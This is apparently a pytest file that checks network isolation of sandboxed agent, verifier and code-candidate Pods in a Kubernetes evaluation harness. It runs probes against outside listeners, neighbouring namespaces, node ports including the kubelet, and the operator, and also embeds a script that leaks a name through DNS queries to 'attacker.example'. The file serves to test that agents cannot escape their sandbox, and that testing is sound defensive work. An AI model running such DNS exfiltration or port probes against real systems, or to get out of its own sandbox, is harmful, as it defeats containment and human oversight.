"""F7: a Pod of a run without domains reaches nobody, by no address, no name and no port."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import ExitStack
from typing import NamedTuple

import pytest

from support.release import OPERATOR, Raw, condition, namespace
from threats.honest import APP, RIGHT_CODE, assert_passed
from threats.kit.arena import Arena
from threats.kit.batch import Batch, Trial, Weakening
from threats.kit.live import has_started
from threats.kit.network import (
    NO_PROBES,
    ROUTER,
    Listener,
    Target,
    as_check,
    knocking,
    listen,
    open_policy,
)
from threats.kit.specs import replaced

NODE_PORTS = (22, 53, 80, 443, 2379, 5000, 6443, 9090, *range(10248, 10260), 30000, 32767)
OTHER_NAMESPACES = 4
FREE = Weakening((NO_PROBES,))
FREE_CHECK = Weakening((NO_PROBES,), role="verifier")
AS_IS = Weakening(())
"""Only puts a batch in the namespace where policies may be made."""
KUBELET_PORT = 10250


class World(NamedTuple):
    """Who could be reached: one listener stands for the outside, the others are neighbours.

    Attributes:
        outside: It answers on twenty ports.
        closed: A listener in the namespace of the attacks.
        free: A listener in the namespace of the twins.
        neighbours: Listeners in four further namespaces.
    """

    outside: Listener
    closed: Listener
    free: Listener
    neighbours: tuple[Listener, ...]


CLOSED = Batch("f7-closed", "terminal_task", defaults=APP)
CLOSED_CODE = Batch("f7-closed-code", "code_completion")
OPEN = Batch("f7-open", "terminal_task", defaults=APP, weakening=FREE)
OPEN_CHECK = Batch("f7-open-check", "terminal_task", defaults=APP, weakening=FREE_CHECK)


@pytest.fixture(scope="session")
def world(arena: Arena) -> Iterator[World]:
    with ExitStack() as stack:
        others = [stack.enter_context(namespace("sb-other")) for _ in range(OTHER_NAMESPACES + 1)]
        own = [arena.place(batch).release.namespace for batch in (CLOSED, OPEN)]
        outside, *neighbours, closed, free = listen([*others, *own])
        yield World(outside, closed, free, tuple(neighbours))


class Knockers(NamedTuple):
    """Trials that try to get out: with and without the controls, from harness and verifier."""

    closed: Trial
    free: Trial
    closed_check: Trial
    free_check: Trial
    closed_code: Trial


@pytest.fixture(scope="session")
def knockers(arena: Arena, world: World) -> Knockers:
    """Have them all knock at the outside listener, those of the harness at every neighbour too."""
    ports = world.outside.ports()
    near = {CLOSED: world.closed, OPEN: world.free}
    check = {"checker": {"command": "true"}}
    code = f"{knocking(ports, 'closed-code')}{RIGHT_CODE}"
    agents = {
        batch: knocking([*ports, *around(arena, batch, near[batch], world)], f"{who}-agent")
        for batch, who in ((CLOSED, "closed"), (OPEN, "free"))
    }
    trials = Knockers(
        CLOSED.task("agent", agent=agents[CLOSED], grading=check),
        OPEN.task("agent", agent=agents[OPEN], grading=check),
        CLOSED.task("check", grading=checking(ports, "closed-check")),
        OPEN_CHECK.task("check", grading=checking(ports, "free-check")),
        CLOSED_CODE.task("code", candidate=code, grading=CODE_TESTS),
    )
    arena.place(OPEN).release.create(
        open_policy(OPEN.name, "harness"), open_policy(OPEN_CHECK.name, "verifier")
    )
    arena.start(trials)
    return trials


CODE_TESTS = {"tests": {"source": "inline", "code": "assert answer(6) == 42\n"}}


def checking(targets: list[Target], who: str) -> Raw:
    return {"checker": {"command": as_check(knocking(targets, who))}}


def around(arena: Arena, batch: Batch, near: Listener, world: World) -> list[Target]:
    """Return neighbours, operator and node as a Pod of a batch could address them."""
    release = arena.place(batch).release
    operator = release.get("pod", OPERATOR)["status"]["podIP"]
    ways = [way for each in (*world.neighbours, near) for way in each.ways()]
    node = [Target(f"node/{port}", "tcp", near.node, port) for port in NODE_PORTS]
    bridges = [Target(f"bridge/{port}", "tcp", ROUTER, port) for port in NODE_PORTS]
    return [*ways, *node, *bridges, Target("operator/9090", "tcp", operator, 9090)]


def reached(arena: Arena, trial: Trial, stream: str = "producer_stdout") -> set[str]:
    """Return the targets that a program says that it reached."""
    return set(json.loads(arena.record(trial)[stream]))


def names(targets: list[Target]) -> set[str]:
    return {target.name for target in targets}


def ports_of(hits: list[Raw]) -> set[str]:
    return {f"{hit['kind']}/{hit['port']}" for hit in hits}


@pytest.mark.short
def test_a_126_attack(arena: Arena, world: World, knockers: Knockers) -> None:
    said = reached(arena, knockers.closed)

    assert said & names(world.outside.ports()) == set()
    assert world.outside.hits("closed-agent") == []


def test_a_126_twin(arena: Arena, world: World, knockers: Knockers) -> None:
    said = reached(arena, knockers.free)

    assert said >= names(world.outside.ports())
    assert ports_of(world.outside.hits("free-agent")) == names(world.outside.ports())


def test_a_147_attack(arena: Arena, world: World, knockers: Knockers) -> None:
    assert reached(arena, knockers.closed) == set()
    for each in (*world.neighbours, world.closed):
        assert each.hits("closed-agent") == []


def test_a_147_twin(arena: Arena, world: World, knockers: Knockers) -> None:
    said = reached(arena, knockers.free)

    for each in (*world.neighbours, world.free):
        assert names(each.ways()) <= said
        assert len(each.hits("free-agent")) == len(each.ways())


def of_node(said: set[str]) -> set[str]:
    return {name for name in said if name.startswith(("node/", "bridge/"))}


@pytest.mark.short
def test_a_148_attack(arena: Arena, knockers: Knockers) -> None:
    assert of_node(reached(arena, knockers.closed)) == set()


@pytest.mark.usefixtures("world")
def test_a_148_twin(arena: Arena, knockers: Knockers) -> None:
    assert of_node(reached(arena, knockers.free)) >= {"node/6443", "node/10250"}


class Residue(NamedTuple):
    """Runs whose Pods reach the kubelet, as with some plugins; only the second accepts that."""

    refused: Trial
    accepted: Trial


VERIFIED = {"require": "Verified"}
REFUSED = Batch(
    "f7-node-refused",
    "terminal_task",
    defaults=APP,
    spec={"isolation": VERIFIED},
    weakening=AS_IS,
    ended="False",
)
ACCEPTED = Batch(
    "f7-node-accepted",
    "terminal_task",
    defaults=APP,
    spec={"isolation": {**VERIFIED, "allow": ["Node"]}},
    weakening=AS_IS,
)


@pytest.fixture(scope="session")
def residue(arena: Arena, world: World) -> Residue:
    """Open the kubelet's port to canary and harness, then have the agents knock at everything."""
    check = {"checker": {"command": "true"}}
    targets = [*world.outside.ports(), *around(arena, REFUSED, world.free, world)]
    trials = Residue(
        *(
            batch.task("agent", agent=knocking(targets, batch.name), grading=check)
            for batch in (REFUSED, ACCEPTED)
        )
    )
    roles = ("canary", "harness")
    arena.place(REFUSED).release.create(
        *(open_policy(batch.name, *roles, ports=[KUBELET_PORT]) for batch in (REFUSED, ACCEPTED))
    )
    arena.start(trials)
    return trials


@pytest.mark.short
def test_a_148_attack_on_an_open_node(arena: Arena, residue: Residue) -> None:
    run = arena.run(REFUSED)
    verified = condition(run, "IsolationVerified")

    assert condition(run)["reason"] == "IsolationNotVerified"
    assert verified["status"] == "False"
    assert "reached: kubelet; spec.isolation.allow: [Node] accepts" in verified["message"]
    assert not has_started(arena, residue.refused)


@pytest.mark.short
def test_a_148_attack_on_an_accepted_node(arena: Arena, world: World, residue: Residue) -> None:
    """What is open is stated, in the condition and in the record, and nothing else is open."""
    said = reached(arena, residue.accepted)
    labels = arena.record(residue.accepted)["labels"]
    verified = condition(arena.run(ACCEPTED), "IsolationVerified")
    operator = arena.place(ACCEPTED).release.get("pod", OPERATOR)

    assert f"node/{KUBELET_PORT}" in said
    assert said <= {f"node/{KUBELET_PORT}", f"bridge/{KUBELET_PORT}"}
    assert world.outside.hits(ACCEPTED.name) == []
    assert verified["status"] == "True"
    assert f"kubelet ({operator['status']['hostIP']}:{KUBELET_PORT})" in verified["message"]
    assert (labels["isolation"], labels["node_reachable"]) == ("verified", True)


@pytest.mark.short
def test_a_153_attack(arena: Arena, world: World, knockers: Knockers) -> None:
    assert reached(arena, knockers.closed_check, "verifier_stdout") == set()
    assert world.outside.hits("closed-check") == []


def test_a_153_attack_by_code(arena: Arena, world: World, knockers: Knockers) -> None:
    assert_passed(arena, knockers.closed_code)
    assert world.outside.hits("closed-code") == []


def test_a_153_twin(arena: Arena, world: World, knockers: Knockers) -> None:
    said = reached(arena, knockers.free_check, "verifier_stdout")

    assert said == names(world.outside.ports())
    assert ports_of(world.outside.hits("free-check")) == said


LOOK_UP = """\
import socket, struct
def question(name, kind):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!2H", kind, 1)
for name in ("WHO.attacker.example", "WHO"):
    try:
        socket.getaddrinfo(name, 443)
    except OSError as error:
        print(error)
for kind in (1, 16, 28):
    asked = question("WHO.attacker.example", kind)
    framed = struct.pack("!H", len(asked)) + asked
    for way in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            with socket.socket(type=way) as each:
                each.settimeout(1)
                each.connect(("RESOLVER", 53))
                each.send(asked if way == socket.SOCK_DGRAM else framed)
                each.recv(16)
        except OSError as error:
            print(error)
"""
LOOKING = Batch("f7-looking", "terminal_task", defaults=APP)


def looking_up(who: str, resolver: str) -> str:
    return LOOK_UP.replace("WHO", who).replace("RESOLVER", resolver)


def resolving(address: str) -> Batch:
    """Return a batch whose harness Pods have a resolver and may reach it."""
    patch = replaced("/spec/dnsConfig/nameservers/0", f'"{address}"')
    return Batch(
        "f7-resolving", "terminal_task", defaults=APP, weakening=Weakening((NO_PROBES, patch))
    )


class Lookups(NamedTuple):
    """Trials that carry their name out by a resolver."""

    closed: Trial
    free: Trial


@pytest.fixture(scope="session")
def lookups(arena: Arena, world: World) -> Lookups:
    address = world.outside.address
    free = resolving(address)
    trials = Lookups(
        LOOKING.task(
            "lookup",
            agent=looking_up("closedlookup", address),
            grading={"checker": {"command": as_check(looking_up("closedverifier", address))}},
        ),
        free.task(
            "lookup",
            agent=looking_up("freelookup", address),
            grading={"checker": {"command": "true"}},
        ),
    )
    arena.place(free).release.create(open_policy(free.name, "harness"))
    arena.start(trials)
    return trials


@pytest.mark.short
def test_a_127_attack(arena: Arena, world: World, lookups: Lookups) -> None:
    for role in ("harness", "verifier"):
        (pod,) = arena.pods(lookups.closed, role)
        assert pod["spec"]["dnsPolicy"] == "None"
        assert pod["spec"]["dnsConfig"]["nameservers"] == ["127.0.0.1"]
    assert world.outside.hits("closedlookup") == []
    assert world.outside.hits("closedverifier") == []


def test_a_127_twin(arena: Arena, world: World, lookups: Lookups) -> None:
    arena.record(lookups.free)
    hits = world.outside.hits("freelookup")

    assert {(hit["kind"], hit["port"]) for hit in hits} == {("udp", 53), ("tcp", 53)}
    assert any("attacker" not in hit["data"] for hit in hits), "by the system's own resolver"
